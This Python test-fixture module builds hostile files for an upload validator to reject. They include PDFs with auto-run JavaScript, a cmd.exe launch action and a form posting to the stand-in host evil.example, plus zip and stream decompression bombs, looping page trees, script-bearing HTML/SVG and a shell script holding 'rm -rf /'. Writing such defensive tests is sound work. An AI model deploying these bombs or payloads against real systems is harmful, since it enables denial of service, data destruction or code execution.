"""Files that nobody should send, made on the spot: name → (bytes, the code that refuses them)."""

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


def plain_pdf(pages: int = 1, **save: object) -> bytes:
    """A sound PDF of blank pages, with a title and an author."""
    pdf = pikepdf.new()
    for _page in range(pages):
        pdf.add_blank_page()
    pdf.docinfo["/Author"] = "Marie Tessier, 12 rue des Essais"
    return _saved(pdf, **save)


def _saved(pdf: pikepdf.Pdf, **save: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def _pdf_with(change) -> bytes:
    pdf = pikepdf.open(io.BytesIO(plain_pdf()))
    change(pdf)
    return _saved(pdf)


def _open_action(action: Dictionary):
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def _annotation(subtype: str, **more: object):
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 10, 10], **more)]
        )

    return change


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = b"MZ\x90"


def _named_script(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp/>"))


def _page_script(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))


def _deep(pdf: pikepdf.Pdf) -> None:
    inner = Array()
    for _level in range(200):
        inner = Array([inner])
    pdf.Root.PrivateThing = inner


def _bomb() -> bytes:
    """An object stream of a few kilobytes that unfolds to more than a gigabyte."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 24)) for _block in range(72)) + packer.flush()
    head = b"%PDF-1.5\n"
    body = (
        b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(packed)).encode()
        + b">>\nstream\n"
        + packed
        + b"\nendstream\nendobj\n"
    )
    rows = struct.pack(">BIB", 0, 0, 0) + struct.pack(">BIB", 1, len(head), 0) + struct.pack(">BIB", 2, 1, 0)
    table = zlib.compress(rows)
    at = len(head) + len(body)
    cross = (
        b"3 0 obj\n<</Type/XRef/Size 3/W[1 4 1]/Root 2 0 R/Filter/FlateDecode/Length "
        + str(len(table)).encode()
        + b">>\nstream\n"
        + table
        + b"\nendstream\nendobj\n"
    )
    return head + body + cross + b"startxref\n" + str(at).encode() + b"\n%%EOF\n"


def folded(megabytes: int, times: int = 1) -> bytes:
    """Blanks that unfold to so many megabytes, packed so many times."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * (1 << 20)) for _block in range(megabytes)) + packer.flush()
    for _time in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def _pages_that_unfold(*megabytes: int, times: int = 1):
    """Pages whose drawing is a few kilobytes, and so many megabytes once it is read."""

    def change(pdf: pikepdf.Pdf) -> None:
        for each in megabytes:
            page = pdf.add_blank_page()
            names = Array([Name.FlateDecode] * times) if times > 1 else Name.FlateDecode
            page.Contents = pikepdf.Stream(pdf, folded(each, times), Filter=names)

    return change


def _picture_inside(data: bytes, width: int, height: int, filtered: Name):
    def change(pdf: pikepdf.Pdf) -> None:
        drawn = pikepdf.Stream(
            pdf,
            data,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=width,
            Height=height,
            ColorSpace=Name.DeviceGray,
            BitsPerComponent=8,
            Filter=filtered,
        )
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=drawn))

    return change


def pdf_with_pages_that_unfold(*megabytes: int) -> bytes:
    """A PDF, sound but for what its pages become, in megabytes each."""
    return _pdf_with(_pages_that_unfold(*megabytes))


def pdf_with_picture(width: int, height: int) -> bytes:
    """A sound PDF with a JPEG of that size on its page."""
    return _pdf_with(_picture_inside(picture("JPEG", (width, height)), width, height, Name.DCTDecode))


def _endless_pages() -> bytes:
    """A tree of pages that contains itself."""
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"
    )


def picture(kind: str = "JPEG", size: tuple[int, int] = (400, 300)) -> bytes:
    """A sound picture that says where it was taken."""
    out = io.BytesIO()
    exif = Image.Exif()
    exif[0x013B] = "Marie Tessier"
    Image.new("RGB", size, "white").save(out, kind, exif=exif)
    return out.getvalue()


def _jpeg_header(width: int, height: int) -> bytes:
    """The picture of `picture`, which says that it is of another size."""
    sound = picture()
    at = sound.index(b"\xff\xc0") + 5
    return sound[:at] + struct.pack(">HH", height, width) + sound[at + 4 :]


def _wide_png() -> bytes:
    """A PNG of a few kilobytes that says it is 30,000 pixels wide and high."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
LAUNCH = Dictionary(S=Name.Launch, F=String("cmd.exe"))

HOSTILE: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "file_empty"),
    "page": (b"<!doctype html><script>alert(1)</script>", "file_kind"),
    "drawing": (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "file_kind"),
    "page called PDF further on": (b"<script>alert(1)</script>\n%PDF-1.4", "file_kind"),
    "program": (b"MZ\x90\x00" + b"\0" * 500, "file_kind"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "file_kind"),
    "archive": (b"PK\x03\x04" + b"\0" * 500, "file_kind"),
    "moving picture": (b"GIF89a" + b"\0" * 500, "file_kind"),
    "postscript": (b"%!PS-Adobe-3.0 EPSF-3.0\n", "file_kind"),
    "PDF in name only": (b"%PDF-1.7\nnothing else", "file_unreadable"),
    "cut in two": (plain_pdf(3)[:200], "file_unreadable"),
    "noise after the header": (b"%PDF-1.7\n" + bytes(range(256)) * 200, "file_unreadable"),
    "script at opening": (_pdf_with(_open_action(SCRIPT)), "file_active"),
    "program at opening": (_pdf_with(_open_action(LAUNCH)), "file_active"),
    "script by name": (_pdf_with(_named_script), "file_active"),
    "script on a page": (_pdf_with(_page_script), "file_active"),
    "script behind a link": (_pdf_with(_annotation("Link", A=SCRIPT)), "file_active"),
    "form that leaves": (
        _pdf_with(_annotation("Link", A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
        "file_active",
    ),
    "file attached": (_pdf_with(_attached), "file_active"),
    "file pinned on a page": (_pdf_with(_annotation("FileAttachment")), "file_active"),
    "rich media": (_pdf_with(_annotation("RichMedia")), "file_active"),
    "dynamic form": (_pdf_with(_xfa), "file_active"),
    "password": (plain_pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "file_locked"),
    "too many pages": (plain_pdf(21), "file_pages"),
    "pages within themselves": (_endless_pages(), "file_unreadable"),
    "too deep": (_pdf_with(_deep), "file_unreadable"),
    "bomb": (_bomb(), "file_unreadable"),
    "page of 200 MB": (pdf_with_pages_that_unfold(200), "file_unfolds"),
    "pages of 200 MB together": (pdf_with_pages_that_unfold(50, 50, 50, 50), "file_unfolds"),
    "packed twice": (_pdf_with(_pages_that_unfold(200, times=2)), "file_unfolds"),
    "picture of a gigapixel": (
        _pdf_with(_picture_inside(b"\0" * 100, 40_000, 25_000, Name.CCITTFaxDecode)),
        "file_pictures",
    ),
    "JPEG wider than it is told": (
        _pdf_with(_picture_inside(_jpeg_header(30_000, 30_000), 10, 10, Name.DCTDecode)),
        "file_pictures",
    ),
    "too heavy": (b"%PDF-1.4\n" + b"0" * (5 * 1024 * 1024), "file_heavy"),
}
HOSTILE_PICTURES: dict[str, tuple[bytes, str]] = {
    "wide": (_wide_png(), "file_large"),
    "cut picture": (picture()[:300], "file_unreadable"),
    "header alone": (b"\xff\xd8\xff" + b"<script>alert(1)</script>", "file_unreadable"),
    "PNG header alone": (b"\x89PNG\r\n\x1a\n" + b"\0" * 100, "file_unreadable"),
}
